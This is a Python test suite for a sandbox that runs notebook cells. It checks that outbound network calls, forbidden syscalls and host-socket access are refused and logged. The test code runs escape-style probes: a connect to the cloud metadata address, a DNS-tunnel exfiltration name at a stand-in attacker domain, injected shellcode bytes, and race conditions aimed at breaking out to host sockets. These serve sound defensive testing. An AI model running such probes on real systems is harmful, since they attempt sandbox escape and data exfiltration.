# SPDX-License-Identifier: Apache-2.0
"""What code in a cell tries is refused, recorded, and counted by the second witness."""

import socket
import tempfile
from pathlib import Path

from cells import BIN, CellTestCase, each_identity, python

OUTSIDE = "203.0.113.80"  # RFC 5737: nobody


class RecorderTest(CellTestCase):
    def attempts_of(self, identity, code, **spec):
        running = self.run_python(identity, code, **spec)
        self.assertEqual(running.exit["interfaces"], ["lo"])
        return running

    def only(self, running, **wanted):
        """The one recorded attempt with these members."""
        found = [a for a in running.attempts if all(a[k] == v for k, v in wanted.items())]
        self.assertEqual(len(found), 1, running.attempts)
        return found[0]

    @each_identity
    def test_connections_are_refused_and_recorded(self, identity):
        code = f"""
import socket, errno
for family, address in ((socket.AF_INET, ("{OUTSIDE}", 443)), (socket.AF_INET6, ("2001:db8::80", 80)),
                        (socket.AF_INET6, ("::ffff:{OUTSIDE}", 81)), (socket.AF_INET, ("169.254.169.254", 80))):
    s = socket.socket(family)
    assert s.connect_ex(address) == errno.ENETUNREACH, address
"""
        running = self.attempts_of(identity, code, name="c-7", notebook="In [7]")
        attempt = self.only(running, operation="connect", address=OUTSIDE, port=443, family="inet")
        self.assertEqual((attempt["cell"], attempt["notebook"]), ("c-7", "In [7]"))
        self.assertEqual(attempt["verdict"], "refused")
        self.assertEqual(attempt["pid"], running.started["payload"])
        self.assertIn("python3", attempt["program"])
        self.only(running, address="2001:db8::80", family="inet6", port=80)
        self.only(running, address=f"::ffff:{OUTSIDE}", port=81)
        self.only(running, address="169.254.169.254")
        self.assertEqual(running.exit["unrouted"], 0)

    @each_identity
    def test_datagrams_are_refused_and_recorded(self, identity):
        code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for send in (lambda: s.sendto(b"x", ("{OUTSIDE}", 53)), lambda: s.sendmsg([b"x"], [], 0, ("{OUTSIDE}", 54))):
    try:
        send()
    except OSError:
        continue
    raise SystemExit("sent")
"""
        running = self.attempts_of(identity, code)
        self.only(running, operation="sendto", address=OUTSIDE, port=53)
        self.only(running, operation="sendmsg", address=OUTSIDE, port=54)

    @each_identity
    def test_binding_outside_is_refused_and_inside_works(self, identity):
        code = f"""
import socket, threading
s = socket.socket()
try:
    s.bind(("{OUTSIDE}", 80))
except OSError:
    pass
else:
    raise SystemExit("bound")
server = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: server.accept()[0].sendall(b"hello")).start()
assert socket.create_connection(server.getsockname()).recv(9) == b"hello"
a, b = socket.socketpair()
a.send(b"x"); assert b.recv(1) == b"x"
"""
        running = self.attempts_of(identity, code)
        self.assertEqual([a["operation"] for a in running.attempts], ["bind"])

    @each_identity
    def test_refused_families_are_recorded_by_name(self, identity):
        code = """
import socket
for family, kind, protocol in ((40, 1, 0), (17, 3, 0), (38, 5, 0), (16, 3, 12), (2, 3, 1), (31, 3, 0), (44, 3, 0)):
    try:
        socket.socket(family, kind, protocol)
    except OSError:
        continue
    raise SystemExit(f"made {family}")
socket.socket(16, 3, 0)
"""
        running = self.attempts_of(identity, code)
        families = {a["family"] for a in running.attempts}
        self.assertEqual(families, {"vsock", "packet", "alg", "netlink", "inet", "bluetooth", "xdp"})
        self.assertEqual({a["operation"] for a in running.attempts}, {"socket"})

    @each_identity
    def test_names_lead_to_the_sinkhole_and_are_told_with_the_connection(self, identity):
        code = r"""
import socket
for name in ("c2VjcmV0.tunnel.attacker.test", "UPPER.Example.COM."):
    assert socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0].startswith("198.18.")
    try:
        socket.create_connection((name, 443))
    except OSError:
        continue
    raise SystemExit("connected")
q = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"\x05a\0b\n\xff\x04test\0" + b"\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.sendto(q, ("127.0.0.1", 53)); assert s.recv(512)[:2] == q[:2]
t = socket.create_connection(("127.0.0.1", 53)); t.settimeout(10)
t.sendall(len(q).to_bytes(2, "big") + q); assert t.recv(512)[2:4] == q[:2]
"""
        running = self.attempts_of(identity, code)
        asked = [a for a in running.attempts if a["operation"] == "dns"]
        self.assertTrue(all(a["verdict"] == "sinkholed" and a["port"] == 53 for a in asked))
        self.assertTrue(all(a["pid"] == running.started["payload"] for a in asked), asked)
        self.assertLessEqual({"c2VjcmV0.tunnel.attacker.test", r"a\000b\010\255.test"}, {a["host"] for a in asked})
        tried = [a for a in running.attempts if a["operation"] == "connect"]
        self.assertEqual({a["host"] for a in tried}, {"c2VjcmV0.tunnel.attacker.test", "UPPER.Example.COM"})
        self.assertTrue(all(a["address"].startswith("198.18.") for a in tried))

    @each_identity
    def test_a_program_without_libc_is_refused_and_recorded(self, identity):
        mounts = [{"source": str(self.folder / "static-connector"), "target": "/opt/static-connector"}]
        (self.folder / "static-connector").write_bytes((BIN / "static-connector").read_bytes())
        (self.folder / "static-connector").chmod(0o755)
        running = self.run_cell(identity, ["/opt/static-connector"], mounts=mounts)
        self.assertEqual(running.exit["code"], 101)  # ENETUNREACH
        attempt = self.only(running, operation="connect", address=OUTSIDE, port=80)
        self.assertTrue(attempt["program"].startswith("/opt/static-connector"))

    @each_identity
    def test_forbidden_calls_are_refused_and_recorded(self, identity):
        code = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
for number in (101, 425, 165, 272, 308, 321, 250, 298, 323, 304, 447, 310, 438, 155, 161):
    assert libc.syscall(number, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.EPERM, number
for number in (435, 457, 999, 317):
    assert libc.syscall(number, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.ENOSYS, number
assert libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == -1 and ctypes.get_errno() == errno.EPERM
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
assert libc.ioctl(0, 0x100005412, b"x") == -1 and ctypes.get_errno() == errno.EPERM
"""
        expected = {
            "ptrace", "io_uring_setup", "mount", "unshare", "setns", "bpf", "keyctl", "perf_event_open",
            "userfaultfd", "open_by_handle_at", "memfd_secret", "process_vm_readv", "pidfd_getfd", "pivot_root",
            "chroot", "clone", "ioctl TIOCSTI",
        }  # fmt: skip
        running = self.attempts_of(identity, code)
        self.assertEqual({a["operation"] for a in running.attempts}, expected)

    @each_identity
    def test_32_bit_calls_end_the_process(self, identity):
        # int 0x80 with eax = 20 (getpid of the 32-bit table), from memory that may be executed.
        code = r"""
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7); page.write(b"\xb8\x14\0\0\0\xcd\x80\xc3")
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
"""
        running = self.run_cell(identity, python(code))
        self.assertEqual((running.exit["reason"], running.exit["signal"]), ("signalled", 31), running.stderr)

    @each_identity
    def test_children_are_recorded_under_their_own_number(self, identity):
        code = f"""
import os, socket
done, tell = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        socket.socket().connect_ex(("{OUTSIDE}", 1)); os.write(tell, b"x")
    os._exit(0)
os.read(done, 1)
socket.socket().connect_ex(("{OUTSIDE}", 2))
"""
        running = self.attempts_of(identity, code)
        child, parent = self.only(running, port=1), self.only(running, port=2)
        self.assertEqual(parent["pid"], running.started["payload"])
        self.assertNotEqual(child["pid"], parent["pid"])

    @each_identity
    def test_a_flood_is_counted_and_folded(self, identity):
        code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3000):
    try: s.sendto(b"x", ("{OUTSIDE}", 9))
    except OSError: pass
for i in range(2000):
    try: s.sendto(b"x", ("{OUTSIDE}", 1000 + i))
    except OSError: pass
"""
        running = self.attempts_of(identity, code)
        self.assertEqual(sum(a["count"] for a in running.attempts), 5000)
        windows = int(running.exit["seconds"]) + 2
        self.assertLess(len(running.attempts), 102 * windows)

    @each_identity
    def test_a_changed_address_meets_no_route(self, identity):
        # A second thread swaps the address between the recorder's look and the kernel's: a line may be lost, a
        # packet not: then the namespace counts it.
        code = f"""
import ctypes, socket, threading
libc = ctypes.CDLL(None)
def address(host): return b"\\2\\0\\0\\x35" + socket.inet_aton(host) + bytes(8)
inside, outside = address("127.0.0.1"), address("{OUTSIDE}")
shared = ctypes.create_string_buffer(inside, 16)
stop = False
def swap():
    while not stop:
        ctypes.memmove(shared, outside, 16); ctypes.memmove(shared, inside, 16)
threading.Thread(target=swap).start()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
passed = sum(libc.sendto(s.fileno(), b"x", 1, 0, shared, 16) == 1 for _ in range(4000))
stop = True
print(passed)
"""
        running = self.attempts_of(identity, code)
        refused = sum(a["count"] for a in running.attempts)
        self.assertEqual(int(running.stdout) + refused + running.exit["unrouted"], 4000)
        self.assertGreater(refused, 0)


class ConnectTest(CellTestCase):
    """The supervisor connects for the cell: to the cell's own sockets, and to nothing of the host's."""

    def share(self, identity):
        """A folder of the host with a listening socket, and what mounts it into a cell."""
        folder = Path(self.enterContext(tempfile.TemporaryDirectory(prefix="cloister-share-", dir="/tmp")))
        listener = self.enterContext(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        listener.bind(str(folder / "host.sock"))
        listener.listen()
        listener.setblocking(False)
        for path in (folder, folder / "host.sock"):
            path.chmod(0o777)
        return listener, [{"source": str(folder), "target": "/share", "writable": True}]

    def assert_nobody_came(self, listener):
        with self.assertRaises(BlockingIOError):
            listener.accept()

    @each_identity
    def test_a_host_socket_in_a_mounted_folder_is_refused_and_recorded(self, identity):
        listener, mounts = self.share(identity)
        code = """
import errno, os, socket
os.symlink("/share/host.sock", "/tmp/link"); os.chdir("/share")
for path in ("/share/host.sock", "/tmp/link", "host.sock", "../share/./host.sock"):
    s = socket.socket(socket.AF_UNIX)
    assert s.connect_ex(path) == errno.EACCES, path
"""
        running = self.run_python(identity, code, mounts=mounts)
        self.assert_nobody_came(listener)
        self.assertEqual({(a["operation"], a["family"]) for a in running.attempts}, {("connect", "unix")})
        self.assertEqual(sum(a["count"] for a in running.attempts), 4)
        self.assertIn("/share/host.sock", {a["address"] for a in running.attempts})

    @each_identity
    def test_no_race_leads_to_a_host_socket(self, identity):
        # Threads change the address, the descriptor and the folder while others connect.
        listener, mounts = self.share(identity)
        code = """
import ctypes, os, socket, threading, time
libc = ctypes.CDLL(None)
def address(path): return b"\\1\\0" + path + bytes(40 - len(path))
inet = b"\\2\\0\\0\\x35" + socket.inet_aton("127.0.0.1") + bytes(34)
os.mkdir("/tmp/own")
for path in ("/tmp/own/host.sock", "/tmp/own.sock"):
    socket.socket(socket.AF_UNIX).bind(path)
server = socket.socket(socket.AF_UNIX); server.bind("/tmp/own/live"); server.listen(4096)
shared = ctypes.create_string_buffer(inet, 42)
end = time.monotonic() + 3
def swap_addresses():
    while time.monotonic() < end:
        for one in (address(b"/share/host.sock"), inet, address(b"/tmp/own/live"), address(b"/tmp/flip/host.sock")):
            ctypes.memmove(shared, one, 42)
def swap_folders():
    os.symlink("/tmp/own", "/tmp/a"); os.symlink("/share", "/tmp/b"); os.symlink("/share", "/tmp/flip")
    while time.monotonic() < end:
        for target in ("/tmp/own", "/share"):
            os.symlink(target, "/tmp/new"); os.rename("/tmp/new", "/tmp/flip")
def swap_descriptors():
    while time.monotonic() < end:
        with socket.socket(socket.AF_INET) as inet_socket, socket.socket(socket.AF_UNIX) as unix_socket:
            os.dup2(inet_socket.fileno(), 100); os.dup2(unix_socket.fileno(), 100)
threads = [threading.Thread(target=f) for f in (swap_addresses, swap_folders, swap_descriptors)]
for thread in threads: thread.start()
tries = 0
while time.monotonic() < end:
    for size in (16, 42):
        libc.connect(100, shared, size); tries += 1
for thread in threads: thread.join()
print(tries)
"""
        # A connection that got out would wait in the host's full queue: then the time ends the cell, and the test.
        running = self.run_python(identity, code, mounts=mounts, limits={"wall_seconds": 60})
        self.assertGreater(int(running.stdout), 100)
        self.assert_nobody_came(listener)

    @each_identity
    def test_a_name_does_not_lead_to_another_process(self, identity):
        # The copy of the socket comes from the caller, whatever the caller calls itself.
        code = """
import ctypes, os, socket
ctypes.CDLL(None).prctl(15, b"Tgid: %d" % (os.getppid() + 1))
assert "Tgid:" in open("/proc/self/comm").read()
server = socket.create_server(("127.0.0.1", 0))
socket.create_connection(server.getsockname()).sendall(b"x")
assert server.accept()[0].recv(1) == b"x"
"""
        self.assertEqual(self.run_python(identity, code).attempts, [])

    @each_identity
    def test_unix_datagrams_are_refused(self, identity):
        code = """
import errno, socket
for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM),
             lambda: socket.socket(socket.AF_UNIX, socket.SOCK_RAW),
             lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)):
    try:
        make()
    except OSError as error:
        assert error.errno == errno.EPERM, error
        continue
    raise SystemExit("made")
"""
        running = self.run_python(identity, code)
        self.assertEqual({(a["operation"], a["family"]) for a in running.attempts},
                         {("socket", "unix"), ("socketpair", "unix")})  # fmt: skip

    @each_identity
    def test_the_sockets_of_the_cell_itself_work_as_ever(self, identity):
        code = """
import errno, os, socket, threading, time
os.mkdir("/tmp/d"); os.chdir("/tmp/d"); os.symlink("/tmp/d/s", "/tmp/link"); os.symlink("../d/s", "/tmp/d/link2")
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    server = socket.socket(socket.AF_UNIX, kind); server.bind("s"); server.listen(0)
    for path in ("s", "/tmp/d/s", "./../d/s", "/tmp/link", "link2", "/var/tmp/d/s"):
        with socket.socket(socket.AF_UNIX, kind) as client:
            client.connect(path); client.send(b"x")
            with server.accept()[0] as peer: assert peer.recv(1) == b"x"; client.close(); assert peer.recv(1) == b""
    # A full queue: who does not wait is told, who waits is served, who has a limit is told at its end.
    first = socket.socket(socket.AF_UNIX, kind); first.connect("s")
    hasty = socket.socket(socket.AF_UNIX, kind); hasty.setblocking(False)
    assert hasty.connect_ex("s") == errno.EAGAIN
    limited = socket.socket(socket.AF_UNIX, kind)
    limited.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, bytes(8) + (300000).to_bytes(8, "little"))
    start = time.monotonic()
    assert limited.connect_ex("s") == errno.EAGAIN and 0.25 < time.monotonic() - start < 20
    assert limited.getsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, 16)[8:] == (300000).to_bytes(8, "little")
    patient = socket.socket(socket.AF_UNIX, kind)
    waits = threading.Thread(target=lambda: patient.connect("s")); waits.start()
    time.sleep(0.5); assert waits.is_alive()
    server.accept(); waits.join(20); assert not waits.is_alive()
    os.unlink("s"); server.close(); first.close()
    assert socket.socket(socket.AF_UNIX, kind).connect_ex("s") == errno.ENOENT
abstract = socket.socket(socket.AF_UNIX); abstract.bind("\\0name"); abstract.listen()
socket.socket(socket.AF_UNIX).connect("\\0name")
open("/tmp/plain", "w").close()
assert socket.socket(socket.AF_UNIX).connect_ex("/tmp/plain") == errno.ECONNREFUSED
assert socket.socket().connect_ex(("127.0.0.1", 1)) == errno.ECONNREFUSED
assert socket.socket(socket.AF_INET6).connect_ex(("::1", 1)) == errno.ECONNREFUSED
hasty = socket.socket(); hasty.setblocking(False)
assert hasty.connect_ex(("127.0.0.1", 1)) in (errno.ECONNREFUSED, errno.EINPROGRESS)
a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.bind(("127.0.0.1", 0))
b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); b.connect(a.getsockname()); b.send(b"x"); assert a.recv(9) == b"x"
closed = socket.socket(); number = closed.fileno(); os.close(number)
assert closed.connect_ex(("127.0.0.1", 1)) == errno.EBADF
closed.detach()
"""
        self.assertEqual(self.run_python(identity, code).attempts, [])

    @each_identity
    def test_a_mounted_socket_can_be_connected_to(self, identity):
        listener, mounts = self.share(identity)
        door = [{"source": mounts[0]["source"] + "/host.sock", "target": "/run/door", "writable": True}]
        code = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/door'); s.send(b'hello')"
        running = self.run_python(identity, code, mounts=door)
        with listener.accept()[0] as peer:
            self.assertEqual(peer.recv(9), b"hello")
        self.assertEqual(running.attempts, [])

    @each_identity
    def test_a_cell_ends_while_connections_wait(self, identity):
        listener, mounts = self.share(identity)
        listener.listen(0)
        door = [{"source": mounts[0]["source"] + "/host.sock", "target": "/run/door", "writable": True}]
        code = """
import os, socket, threading, time
def wait(): socket.socket(socket.AF_UNIX).connect("/run/door")
for _ in range(80): threading.Thread(target=wait, daemon=True).start()
time.sleep(1); os._exit(0)
"""
        running = self.run_cell(identity, python(code), mounts=door)
        self.assertEqual(running.exit["code"], 0)
        self.assertLess(running.exit["seconds"], 20)
